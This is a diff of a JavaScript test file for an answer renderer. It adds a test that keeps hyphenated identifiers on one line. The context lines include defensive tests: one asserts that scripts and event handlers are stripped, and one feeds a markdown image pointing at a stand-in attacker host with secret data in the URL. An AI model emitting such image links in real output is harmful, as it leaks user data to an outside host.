@@ -27,6 +27,12 @@ describe("an answer", () => {
     expect(answer.querySelector("img, script, iframe, a, button, b, [onclick], [onerror]")).toBeNull();
   });
 
+  it("keeps each name with hyphens on one line, in text, lists, tables and emphasis", () => {
+    const answer = show("In MI-001\n\n- MI-002\n\n**MI-003**\n\n| Name |\n| - |\n| MI-004 |");
+    const kept = [...answer.querySelectorAll(".whitespace-nowrap")].map((each) => each.textContent);
+    expect(kept).toEqual(["MI-001", "MI-002", "MI-003", "MI-004"]);
+  });
+
   it("names an image instead of loading it, since its address could carry data away", () => {
     const answer = show("![the map](https://evil.test/?data=secret)");
     expect(answer.querySelector("img")).toBeNull();
